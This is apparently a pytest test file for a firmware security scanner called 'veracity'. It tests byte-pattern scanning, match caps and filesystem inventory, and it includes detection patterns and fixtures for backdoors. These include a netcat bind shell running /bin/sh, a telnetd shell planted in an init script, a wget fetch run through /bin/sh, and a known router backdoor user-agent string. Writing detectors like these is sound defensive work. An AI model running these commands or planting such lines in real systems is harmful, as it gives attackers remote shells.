from dataclasses import replace
from pathlib import Path

from veracity.patterns import MAX_PER_PATTERN, Pattern, PatternSet
from veracity.testing.memfs import inventory_from


def test_one_pass_reports_every_pattern_with_offsets():
    ps = PatternSet([Pattern("A/ua", b"xmlset_roodkcableoj28840ybtide"), Pattern("B/nc", rb"nc\s+-l\S*\s.*-e\s+/bin/sh")])
    data = b"junk nc -lp 4444 -e /bin/sh ... xmlset_roodkcableoj28840ybtide"
    matches, capped = ps.scan(data)
    assert [(m[0], data[m[1]:m[2]]) for m in matches] == [
        ("B/nc", b"nc -lp 4444 -e /bin/sh"), ("A/ua", b"xmlset_roodkcableoj28840ybtide")]
    assert capped == ()
    assert ps.scan(b"nothing here") == ((), ())


def test_cap_per_pattern():
    ps = PatternSet([Pattern("X/a", b"abc")])
    matches, capped = ps.scan(b"abc " * 1000)
    assert len(matches) == MAX_PER_PATTERN and capped == ("X/a",)


def test_patterns_in_databases_of_their_own_match_as_in_one():
    from veracity.checks import registry

    ungrouped = [replace(p, cap_group="") for p in registry.patterns().patterns]  # no group stops early
    shared = [replace(p, database=0) for p in ungrouped]
    assert any(p.database for p in registry.patterns().patterns)  # the egress patterns use it
    data = (b"see https://update.vendor.example/fw.bin or mail ops@vendor.example, 203.0.113.9 and fe80::1; "
            b"/bin/sh -c 'wget http://x.example.cn/a' " + b"h\x00t\x00t\x00p\x00:\x00/\x00/\x00") * 40
    assert PatternSet(ungrouped).scan(data) == PatternSet(shared).scan(data)
    assert len(PatternSet([Pattern("A/x", b"abc"), Pattern("B/y", b"bcd", database=3)]).scan(b"abcd")[0]) == 2


def test_a_cap_group_stops_collecting_once_one_of_it_is_capped():
    group = [Pattern("G/a", b"aa", database=1, cap_group="G/"), Pattern("G/b", b"bb", database=1, cap_group="G/"),
             Pattern("G/c", b"cc", database=2, cap_group="G/")]
    others = [Pattern("O/run", b"run", first_only=True, database=2), Pattern("O/x", b"xx")]
    data = b"aa " * (MAX_PER_PATTERN + 5) + b"bb cc run xx"
    matches, capped = PatternSet(group + others).scan(data)
    got = [m[0] for m in matches]
    # database 1 (the group alone) stopped at the cap: no "bb" after it; database 2 holds "O/run" too, so it is
    # scanned whole (what it finds of the group does no harm: the check reads the file itself)
    assert got.count("G/a") == MAX_PER_PATTERN and "G/b" not in got and capped == ("G/a",)
    assert "O/run" in got and "O/x" in got
    # without the cap, nothing changes
    assert {m[0] for m in PatternSet(group + others).scan(b"aa bb cc run xx")[0]} == {"G/a", "G/b", "G/c", "O/run", "O/x"}
    # a database holding the group alone, after it is closed, is not scanned at all
    alone = [Pattern("G/a", b"aa", database=1, cap_group="G/"), Pattern("G/c", b"cc", database=2, cap_group="G/")]
    matches, capped = PatternSet(alone).scan(b"aa " * (MAX_PER_PATTERN + 1) + b"cc")
    assert [m[0] for m in matches] == ["G/a"] * MAX_PER_PATTERN and capped == ("G/a",)
    # patterns without a group are capped one by one, as before
    matches, capped = PatternSet([Pattern("X/a", b"aa"), Pattern("X/b", b"bb")]).scan(b"aa " * 40 + b"bb")
    assert [m[0] for m in matches].count("X/b") == 1 and capped == ("X/a",)


def test_duplicate_ids_rejected():
    import pytest

    with pytest.raises(ValueError):
        PatternSet([Pattern("X", b"a"), Pattern("X", b"b")])


def test_inventory_records_matches(tmp_path):
    ps = PatternSet([Pattern("T/telnet", rb"telnetd\s+-l\s*/bin/sh", caseless=True)])
    inv = inventory_from({"/etc/init.d/rcS": "#!/bin/sh\ntelnetd -l /bin/sh\n", "/etc/hosts": "127.0.0.1 localhost\n"},
                         tmp_path, patterns=ps)
    rcs = inv.by_path("/etc/init.d/rcS")[0].facts
    assert [m[0] for m in rcs.matches] == ["T/telnet"] and rcs.matched("T/") == list(rcs.matches)
    assert inv.by_path("/etc/hosts")[0].facts.matches == ()


def test_strings_on_demand_from_data_ranges(tmp_path):
    blob = b"\x00\x01" * 10 + b"http://update.vendor.example/fw.bin" + b"\xff" * 3 + b"abc" + b"\x00" + b"admin123"
    inv = inventory_from({"/usr/bin/blob.dat": blob}, tmp_path)
    item = inv.by_path("/usr/bin/blob.dat")[0]
    assert item.facts.kind == "data" and item.facts.string_ranges == ((0, len(blob)),)
    assert inv.strings(item) == ((20, "http://update.vendor.example/fw.bin"), (len(blob) - 8, "admin123"))


def test_elf_strings_come_from_read_only_data(tmp_path):
    import shutil

    busybox = shutil.which("busybox") or "/bin/ls"
    inv = inventory_from({"/bin/tool": Path(busybox).read_bytes()}, tmp_path)
    item = inv.by_path("/bin/tool")[0]
    assert item.facts.kind == "elf" and item.facts.string_ranges
    texts = [s for _, s in inv.strings(item)]
    assert any("usage" in t.lower() or "Usage" in t for t in texts)


def test_glob_by_prefix_and_tree(tmp_path):
    inv = inventory_from({"/etc/init.d/S10a": "a", "/etc/init.d/S20b": "b", "/etc/hosts": "h", "/usr/etc/init.d/x": "x",
                          "/etc/crontabs/root": "* * * * * true"}, tmp_path)
    assert [i.node.path for i in inv.glob("/etc/init.d/S*")] == ["/etc/init.d/S10a", "/etc/init.d/S20b"]
    assert [i.node.path for i in inv.glob("**/init.d/*")] == ["/etc/init.d/S10a", "/etc/init.d/S20b", "/usr/etc/init.d/x"]
    assert [i.node.path for i in inv.glob("/etc/crontabs/*", inv.trees[0])] == ["/etc/crontabs/root"]
    other = type(inv.trees[0])(("other",), "dir")
    assert list(inv.glob("/etc/crontabs/*", other)) == []


def test_strings_of_a_range_copied_or_not_are_the_printable_runs(monkeypatch):
    """Printable runs (ASCII and tabs, five or more) with their offsets, the same whether the range is translated in
    a copy (small ranges) or searched as it is (large ones)."""
    import random
    import re as _re

    from veracity import inventory

    rng = random.Random(9)
    data = bytes(rng.choice(b"\x00\x01\x7f\x80\xff\t\n abcXYZ09~-./") for _ in range(200_000))
    ranges = [(0, len(data)), (7, 1000), (150_000, 60_000), (len(data) - 3, 10)]
    want = tuple((start + m.start(), m.group().decode("latin-1"))
                 for start, length in ranges
                 for m in _re.finditer(rb"[\x20-\x7e\t]{5,}", data[start:start + length]))
    assert len(want) > 1000
    assert inventory.strings_in(data, ranges) == want
    monkeypatch.setattr(inventory, "_COPIED_RANGE", 0)
    assert inventory.strings_in(data, ranges) == want
